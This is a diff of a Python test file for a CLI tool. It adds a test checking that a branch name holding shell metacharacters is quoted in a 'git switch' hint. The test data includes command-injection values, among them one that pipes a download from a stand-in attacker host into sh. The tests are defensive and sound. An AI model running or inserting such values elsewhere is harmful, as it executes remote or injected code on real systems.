@@ -142,6 +142,16 @@ def test_a_branch_name_that_is_a_command_is_quoted_in_the_hint(corpus):
         assert "'x && curl https://evil.invalid/p | sh\\n::error::forged'" in out
 
 
+def test_a_branch_that_exists_already_is_named_quoted_in_the_hint(corpus):
+    """A valid ref name may hold `;`, `$` and `&`: the `git switch` hint quotes it."""
+    evil = "x;touch${IFS}pwned&&id"
+    git.Repo(corpus).git.branch(evil)
+    out = clean_exit(run_cli(corpus, "proposal", "new", "ACP/99", "--conference", "PP-18", "--base", "PP-14",
+                             "--submitter", "x", "--branch", evil), 2)
+    assert f"git switch {shlex.quote(evil)}" in out, out
+    assert not (corpus / "pwned").exists()
+
+
 def test_ci_installs_the_pinned_finalacts_whatever_the_pull_request_adds(corpus):
     """A pull request that adds a pyproject.toml named "finalacts" must not make CI install (and
     be checked by) its own finalacts: the choice is read from the base commit."""
